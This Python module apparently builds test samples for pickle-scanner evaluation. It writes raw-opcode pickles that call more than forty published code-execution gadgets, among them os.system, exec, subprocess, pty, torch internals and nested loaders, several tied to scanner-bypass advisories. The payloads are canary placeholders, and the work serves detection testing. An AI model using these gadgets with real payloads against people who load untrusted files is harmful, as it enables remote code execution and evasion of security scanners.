"""Pickle samples that call one published gadget: a callable that runs code, a command, a
nested loader or a file write when the unpickler calls it with literal arguments.

Each row is written as raw opcodes (PROTO 4, STACK_GLOBAL, the argument tuple, REDUCE), so
the generator never imports the module it names.
"""

from __future__ import annotations

import pickle
from collections.abc import Callable
from pathlib import Path
from typing import Any

from _pk import body, proto, stack_global
from registry import Canary, sample

Args = Callable[[Canary], tuple[Any, ...]]


def _nested(c: Canary) -> bytes:
    """A plain pickle that runs the canary: the payload of nested loaders."""
    return pickle.dumps(_ExecReduce(c.py), protocol=2)


class _ExecReduce:
    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return exec, (self.code,)


# (sample id, technique id, module, qualified name, arguments)
GADGETS: list[tuple[str, str, str, str, Args]] = [
    ("posix-system", "pickle-os-system", "posix", "system", lambda c: (c.shell,)),
    ("os-system", "pickle-os-system", "os", "system", lambda c: (c.shell,)),
    ("builtins-exec", "pickle-builtins-exec", "builtins", "exec", lambda c: (c.py,)),
    ("builtins-eval", "pickle-builtins-exec", "builtins", "eval", lambda c: (c.py_expr,)),
    ("subprocess-popen", "pickle-subprocess", "subprocess", "Popen", lambda c: (c.argv,)),
    ("subprocess-run", "pickle-subprocess", "subprocess", "run", lambda c: (c.argv,)),
    ("subprocess-getoutput", "pickle-subprocess", "subprocess", "getoutput", lambda c: (c.shell,)),
    ("os-popen", "pickle-os-system", "os", "popen", lambda c: (c.shell,)),
    ("runpy-run-code", "ghsa-picklescan-runpy", "runpy", "_run_code", lambda c: (c.py, {})),
    ("timeit-setup", "ghsa-picklescan-timeit", "timeit", "timeit", lambda c: ("", c.py)),
    ("cprofile-run", "ghsa-picklescan-profile", "cProfile", "run", lambda c: (c.py,)),
    ("cprofile-runctx", "ghsa-picklescan-profile", "cProfile", "runctx", lambda c: (c.py, {}, {})),
    ("profile-run", "ghsa-picklescan-profile", "profile", "run", lambda c: (c.py,)),
    ("pydoc-pipepager", "ghsa-picklescan-pydoc", "pydoc", "pipepager", lambda c: ("", c.shell)),
    (
        "doctest-debug-script",
        "ghsa-picklescan-doctest",
        "doctest",
        "debug_script",
        lambda c: (c.py, True),
    ),
    (
        "numpy-runstring",
        "ghsa-picklescan-numpy-testing",
        "numpy.testing._private.utils",
        "runstring",
        lambda c: (c.py, {}),
    ),
    (
        "numpy-f2py-getlincoef",
        "ghsa-picklescan-numpy-f2py",
        "numpy.f2py.crackfortran",
        "getlincoef",
        lambda c: (c.py_expr, []),
    ),
    (
        "ensurepip-run-pip",
        "ghsa-picklescan-ensurepip",
        "ensurepip",
        "_run_pip",
        lambda c: (c.py_expr,),
    ),
    (
        "uuid-command-stdout",
        "ghsa-private-stdlib-commands",
        "uuid",
        "_get_command_stdout",
        lambda c: tuple(c.argv),
    ),
    (
        "osx-support-read-output",
        "ghsa-private-stdlib-commands",
        "_osx_support",
        "_read_output",
        lambda c: (c.shell,),
    ),
    (
        "aix-support-read-cmd",
        "ghsa-private-stdlib-commands",
        "_aix_support",
        "_read_cmd_output",
        lambda c: (c.shell,),
    ),
    (
        "imaplib-imap4-stream",
        "ghsa-private-stdlib-commands",
        "imaplib",
        "IMAP4_stream",
        lambda c: (c.shell,),
    ),
    (
        "mailcap-findmatch",
        "pickle-mailcap",
        "mailcap",
        "findmatch",
        lambda c: ({"text/plain": [{"view": "true %s", "test": c.shell}]}, "text/plain"),
    ),
    (
        "asyncio-subprocess-start",
        "cve-2025-10157-submodule",
        "asyncio.unix_events",
        "_UnixSubprocessTransport._start",
        lambda c: ({}, c.shell, True, None, None, None, 0),
    ),
    (
        "multiprocessing-spawnv",
        "ghsa-fickling-multiprocessing",
        "multiprocessing.util",
        "spawnv_passfds",
        lambda c: (b"/usr/bin/touch", [b"touch", str(c.path).encode()], []),
    ),
    ("pty-spawn", "ghsa-picklescan-pty", "pty", "spawn", lambda c: (["sh", "-c", c.shell],)),
    (
        "distutils-write-file",
        "ghsa-picklescan-distutils",
        "distutils.file_util",
        "write_file",
        lambda c: (str(c.path), ["fired"]),
    ),
    (
        "logging-filehandler",
        "pickle-file-write",
        "logging",
        "FileHandler",
        lambda c: (str(c.path),),
    ),
    ("io-fileio-write", "pickle-file-write", "io", "FileIO", lambda c: (str(c.path), "w")),
    ("venv-create", "ghsa-picklescan-venv", "venv", "create", lambda c: (str(c.path),)),
    (
        "pip-main-log",
        "cve-2025-1716-pip",
        "pip",
        "main",
        lambda c: (["list", "--log", str(c.path)],),
    ),
    (
        "idlelib-calltip-get-entity",
        "ghsa-picklescan-idlelib",
        "idlelib.calltip",
        "get_entity",
        lambda c: (c.py_expr,),
    ),
    (
        "torch-collect-env-run",
        "ghsa-picklescan-torch-gadgets",
        "torch.utils.collect_env",
        "run",
        lambda c: (c.shell,),
    ),
    (
        "torch-exec-wrapper",
        "ghsa-picklescan-torch-gadgets",
        "torch.jit.unsupported_tensor_ops",
        "execWrapper",
        lambda c: (c.py, {}, {}),
    ),
    (
        "torch-bottleneck-cprofile",
        "ghsa-picklescan-torch-gadgets",
        "torch.utils.bottleneck.__main__",
        "run_cprofile",
        lambda c: (c.py, {}),
    ),
    (
        "torch-symbolic-shapes-guards",
        "ghsa-picklescan-torch-gadgets",
        "torch.fx.experimental.symbolic_shapes",
        "ShapeEnv.evaluate_guards_expression",
        lambda c: ({}, c.py_expr, []),
    ),
    (
        "torch-dynamo-guardbuilder-get",
        "ghsa-picklescan-torch-gadgets",
        "torch._dynamo.guards",
        "GuardBuilder.get",
        lambda c: ({}, c.py_expr),
    ),
    (
        "torch-inductor-compile-file",
        "ghsa-picklescan-torch-gadgets",
        "torch._inductor.codecache",
        "compile_file",
        lambda c: ("", "", ["sh", "-c", c.shell]),
    ),
    (
        "torch-datapipes-decoder",
        "nested-pickle-loader",
        "torch.utils.data.datapipes.utils.decoder",
        "basichandlers",
        lambda c: ("pickle", _nested(c)),
    ),
    (
        "torch-config-module-load",
        "nested-pickle-loader",
        "torch.utils._config_module",
        "ConfigModule.load_config",
        lambda c: ({}, _nested(c)),
    ),
    (
        "torch-load-from-bytes",
        "nested-pickle-loader",
        "torch.storage",
        "_load_from_bytes",
        lambda c: (_nested(c),),
    ),
    ("pickle-loads-nested", "nested-pickle-loader", "pickle", "loads", lambda c: (_nested(c),)),
    ("cpickle-loads-nested", "nested-pickle-loader", "_pickle", "loads", lambda c: (_nested(c),)),
    ("dill-loads-nested", "nested-pickle-loader", "dill", "loads", lambda c: (_nested(c),)),
]


def _gadget_builder(mod: str, name: str, args: Args) -> Callable[[Path, Canary], None]:
    def build(out: Path, c: Canary) -> None:
        data = proto(4) + stack_global(mod, name) + body(args(c)) + pickle.REDUCE + pickle.STOP
        out.write_bytes(data)

    return build


for _sid, _tech, _mod, _name, _args in GADGETS:
    sample(f"gadget-{_sid}", _tech, note=f"{_mod}.{_name}")(_gadget_builder(_mod, _name, _args))
